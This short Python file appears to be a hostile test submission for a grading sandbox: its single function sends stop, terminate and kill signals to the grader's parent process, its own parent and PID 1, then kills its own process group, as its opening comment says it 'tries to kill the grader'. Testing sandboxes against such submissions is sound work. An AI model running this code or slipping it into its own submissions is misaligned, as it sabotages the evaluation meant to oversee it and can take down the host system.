# Tries to kill the grader and all who stand between.
# claim: processes

import os
import signal


def find(hints):
    for process in (hints["parent"], os.getppid(), 1):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(process, number)
            except OSError:
                continue
    os.killpg(os.getpgid(0), signal.SIGKILL)
